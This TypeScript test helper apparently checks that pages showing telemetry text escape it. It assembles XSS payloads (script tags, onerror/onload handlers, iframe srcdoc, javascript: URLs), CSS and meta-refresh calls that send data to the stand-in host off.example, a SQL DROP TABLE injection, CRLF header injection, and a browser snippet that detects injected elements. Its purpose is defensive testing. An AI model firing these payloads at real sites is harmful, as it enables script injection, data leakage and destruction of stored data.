/**
 * Markup and scripts, as a text of telemetry may hold them. Where a page takes a text for markup, an element with `data-hostile`
 * appears, `hostileRan` is called, or something is asked of another machine; where it takes it for what it is, nothing happens.
 */
export function hostileText(where: string): string {
  const run = `hostileRan('${where}')`;
  return [
    where,
    `<script data-hostile>${run}</script>`,
    `<img data-hostile src=x onerror="${run}">`,
    `<svg data-hostile onload="${run}"><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `"><iframe data-hostile srcdoc="<script>parent.${run}</script>"></iframe>`,
    `' onmouseover='${run}' autofocus onfocus='${run}' data-hostile='`,
    `<style data-hostile>body{display:none;background:url(https://off.example/${encodeURIComponent(where)})}</style>`,
    `<link data-hostile rel=stylesheet href=https://off.example/><base data-hostile href=https://off.example/>`,
    `<meta data-hostile http-equiv=refresh content="0;url=https://off.example/">`,
    `</title></textarea></style></script><b data-hostile>`,
    `javascript:${run}//`,
    "${7*7}{{7*7}}%3Cscript%3E&lt;script&gt;",
    "\u202Egnp.\u0000\u0007\u001B[31m\u001B]0;title\u0007\r\nSet-Cookie: hostile=1",
    "'; DROP TABLE span; --",
    "\uD800 unpaired, \u0300\u0300\u0300\u0300\u0300 combined, \u{1F4A5}",
    `${where} ends`,
  ].join(" ");
}

/** A URL that no page may make a link of. */
export function hostileUrl(where: string): string {
  return `javascript:hostileRan('${where}')`;
}

/** Seen by a browser: elements that came out of hostile text, and links that lead to a script. Empty on a page that escapes. */
export const FIND_HOSTILE_ELEMENTS = `[
  ...[...document.querySelectorAll("[data-hostile], iframe, base, object, embed")].map((found) => found.outerHTML.slice(0, 200)),
  ...[...document.querySelectorAll("a[href], area[href], form[action]")]
    .map((found) => found.href?.baseVal ?? found.href ?? found.action)
    .filter((address) => !/^https?:/.test(address)),
]`;
